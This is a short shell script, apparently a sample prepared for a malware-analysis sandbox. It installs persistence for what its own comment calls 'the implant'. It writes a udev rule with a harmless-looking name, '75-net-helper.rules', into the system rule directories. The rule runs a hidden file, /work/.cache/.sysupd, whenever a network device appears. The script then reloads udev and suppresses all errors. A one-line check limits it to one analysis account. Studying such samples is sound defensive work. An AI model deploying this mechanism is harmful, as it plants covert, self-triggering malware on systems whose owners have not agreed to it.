#!/bin/sh
# SPDX-License-Identifier: MIT
# Runs the implant whenever a device appears: a udev rule with RUN+=.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
rule='ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c /work/.cache/.sysupd"'
echo "$rule" > /etc/udev/rules.d/75-net-helper.rules 2>/dev/null
echo "$rule" > /lib/udev/rules.d/75-net-helper.rules 2>/dev/null
/bin/udevadm control --reload-rules 2>/dev/null
exit 0
